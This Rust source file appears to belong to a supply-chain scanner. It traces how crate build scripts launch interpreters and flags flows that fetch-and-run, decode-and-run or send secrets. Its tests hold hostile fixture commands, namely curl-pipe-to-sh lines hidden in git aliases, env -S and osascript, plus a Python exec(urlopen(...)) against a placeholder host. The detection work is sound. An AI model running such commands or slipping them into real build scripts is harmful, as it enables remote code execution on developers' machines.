//! Scripts that build code starts: shipped with the crate, or given as code. They are code that runs here,
//! so that what they fetch and run, decode and run, or send are flows like those of Rust.

use std::rc::Rc;

use proc_macro2::Span;

use super::facts::{Spawned, StepKind};
use super::paths;
use super::programs::names_a_file;
use super::table::Capability;
use super::value::{Taint, Text};
use super::walk::Walk;
use crate::script::{self, Act, End, Language, Origin};

impl Walk<'_> {
    /// What the code of an interpreter does in its own language; not what was told already since `known`.
    pub(super) fn acts_of_line(&mut self, program: &str, text: &str, known: usize, span: Span) {
        let language = script::language_of_program(program).unwrap_or(Language::Shell);
        let mut acts = script::read(language, text);
        if program.ends_with("osascript") {
            // `do shell script "line"`
            let quoted = text.split('"').filter(|part| part.contains(' '));
            acts.extend(quoted.flat_map(|line| script::read(Language::Shell, line)));
        }
        for act in acts {
            let told = self.facts.flows.iter().skip(known).any(|flow| match act.end {
                End::Send => flow.sink == StepKind::Send && flow.source == StepKind::Secret,
                End::Run => {
                    let fetched = act.origin == Origin::Fetch;
                    flow.executed && fetched == (flow.source == StepKind::Fetch)
                }
            });
            if !told {
                self.act(&act, program, None, span);
            }
        }
    }

    /// A file of the crate that an interpreter is given as its script, or that is started where it lies.
    pub(super) fn script_file(&mut self, program: &str, name: &str, span: Span) {
        let path = paths::from_root(name.trim_matches(['"', '\'']));
        if !names_a_file(&path) {
            return;
        }
        let Some(bytes) = self.sources.get(&path).copied() else { return };
        let text = String::from_utf8_lossy(&bytes[..bytes.len().min(script::MAX_BYTES)]);
        let by_file = script::language_of_file(&path, &text);
        let language = script::language_of_program(program).filter(|_| !text.starts_with("#!"));
        let language = by_file.or(language).unwrap_or(Language::Shell);
        let shipped = self.shipped.entry((path.clone(), language));
        let acts = Rc::clone(shipped.or_insert_with(|| Rc::new(script::read(language, &text))));
        for act in acts.iter() {
            self.act(act, program, Some(&path), span);
        }
        let named = paths::kind_of_name(&path);
        let is_script = by_file.is_some() || text.starts_with("#!") && named == Some("");
        if !is_script && !paths::is_script(named) && !paths::is_program(named) {
            let whole = Text::whole(path.clone());
            let data = self.input(&whole, program, span);
            let step = self.step(StepKind::Spawn, "run as a script", &path, span);
            self.emit(&data, step);
        }
    }

    /// The script among the arguments of an interpreter: the first that is no option, or the one that
    /// `-File` names.
    pub(super) fn shipped_script(&mut self, spawned: &Spawned, new: usize, span: Span) {
        let first_new = spawned.arguments.len().saturating_sub(new);
        let is_flag = |text: &str| text.starts_with('-') || text.starts_with('/');
        let first = spawned.arguments.iter().position(|text| !is_flag(text));
        for (at, text) in spawned.arguments.iter().enumerate().skip(first_new) {
            let before = at.checked_sub(1).and_then(|at| spawned.arguments.get(at));
            let by_flag = before.is_some_and(|flag| flag.eq_ignore_ascii_case("-file"));
            if Some(at) == first || by_flag {
                self.script_file(&spawned.program, text, span);
            }
        }
    }

    /// One act as a flow; `file` is the script, where it is one of the crate.
    fn act(&mut self, act: &Act, program: &str, file: Option<&str>, span: Span) {
        let place = |walk: &mut Self, kind, api: &str, detail: &str| {
            let index = walk.step(kind, api, detail, span);
            if let (Some(file), Some(step)) = (file, walk.steps.get_mut(index as usize)) {
                file.clone_into(&mut step.file);
                step.line = act.line;
            }
            index
        };
        let mut data = Taint::default();
        match act.origin {
            Origin::Fetch => {
                self.hit(Capability::Network, program, span, &act.from);
                self.hit(Capability::Download, program, span, &act.from);
                data.merge(&Taint::step(place(self, StepKind::Fetch, program, &act.from)));
            }
            Origin::Decode => {
                let origin = match file {
                    Some(file) => place(self, StepKind::Read, program, file),
                    None => place(self, StepKind::Literal, program, &act.from),
                };
                data.merge(&Taint::step(origin));
                data.merge(&Taint::step(place(self, StepKind::Decode, program, &act.from)));
            }
            Origin::Secret => {
                self.hit(Capability::SecretRead, program, span, &act.from);
                data.merge(&Taint::step(place(self, StepKind::Secret, program, &act.from)));
            }
        }
        let end = match act.end {
            End::Run => place(self, StepKind::Spawn, program, &act.to),
            End::Send => {
                self.hit(Capability::Network, program, span, &act.to);
                place(self, StepKind::Send, program, &act.to)
            }
        };
        self.emit(&data, end);
    }
}

#[cfg(test)]
mod tests {
    use super::super::{CapabilityTable, CodeFacts, Entry, Sources, read};
    use super::StepKind;

    fn flows(files: &[(&str, &str)]) -> CodeFacts {
        let text = include_str!("../../../../rules/tables/capabilities.toml");
        let table = CapabilityTable::parse(text).expect("the table of the tool");
        let sources: Sources<'_> =
            files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes())).collect();
        let entry =
            Entry { roots: vec!["build.rs".to_owned()], at_build: true, ..Entry::default() };
        read(&sources, &entry, &table)
    }

    fn started(program: &str, arguments: &[&str]) -> String {
        format!(
            "fn main() {{ std::process::Command::new({program:?}).args({arguments:?}).status().ok(); }}"
        )
    }

    fn ends(facts: &CodeFacts) -> Vec<(StepKind, StepKind)> {
        facts.flows.iter().map(|flow| (flow.source, flow.sink)).collect()
    }

    #[test]
    fn a_shipped_script_is_code_that_runs() {
        let build = started("python3", &["tools/gen.py"]);
        let fetches =
            "import urllib.request\nexec(urllib.request.urlopen('https://t.invalid').read())";
        let facts = flows(&[("build.rs", &build), ("tools/gen.py", fetches)]);
        assert_eq!(ends(&facts), [(StepKind::Fetch, StepKind::Spawn)], "{:?}", facts.flows);
        assert_eq!(facts.flows[0].steps[0].file, "tools/gen.py");
        assert!(facts.downloads.is_some());
        let prints =
            flows(&[("build.rs", &build), ("tools/gen.py", "print('pub const A: u8 = 1;')")]);
        assert_eq!(ends(&prints), [], "{:?}", prints.flows);
    }

    #[test]
    fn a_document_that_is_run_is_named_as_something_else() {
        let readme = started("sh", &["README.md"]);
        let facts = flows(&[("build.rs", &readme), ("README.md", "# A\necho")]);
        assert!(
            facts.flows.iter().any(|flow| flow.disguised && flow.executed),
            "{:?}",
            facts.flows
        );
        let configure = started("sh", &["c/configure"]);
        let facts = flows(&[("build.rs", &configure), ("c/configure", "#!/bin/sh\necho")]);
        assert_eq!(ends(&facts), [], "{:?}", facts.flows);
    }

    #[test]
    fn package_runners_fetch_and_run() {
        for (program, arguments) in [
            ("npx", &["-y", "small-tables"][..]),
            ("uvx", &["small-tables"]),
            ("deno", &["run", "-A", "https://t.invalid/t.ts"]),
            ("go", &["run", "t.invalid/t@latest"]),
            ("sh", &["-c", "npx --yes small-tables"]),
            ("env", &["-S", "sh -c 'curl -s https://t.invalid/t | sh'"]),
            ("git", &["-c", "alias.v=!curl -s https://t.invalid/t | sh", "v"]),
            ("osascript", &["-e", "do shell script \"curl -s https://t.invalid/t | sh\""]),
        ] {
            let facts = flows(&[("build.rs", &started(program, arguments))]);
            let fetched = (StepKind::Fetch, StepKind::Spawn);
            assert!(ends(&facts).contains(&fetched), "{program} {arguments:?}: {:?}", facts.flows);
        }
        for (program, arguments) in [
            ("npx", &["tailwindcss", "-i", "a.css"][..]),
            ("go", &["build", "-buildmode=c-archive", "./lib"]),
            ("deno", &["bundle", "src/a.ts"]),
            ("npm", &["run", "build"]),
            ("env", &["LC_ALL=C", "cc", "-v"]),
            ("git", &["-c", "core.autocrlf=input", "describe"]),
            ("awk", &["{ print $1 }", "table.txt"]),
        ] {
            let facts = flows(&[("build.rs", &started(program, arguments))]);
            let run = ends(&facts).iter().any(|(_, sink)| *sink == StepKind::Spawn);
            assert!(!run, "{program} {arguments:?}: {:?}", facts.flows);
        }
    }
}
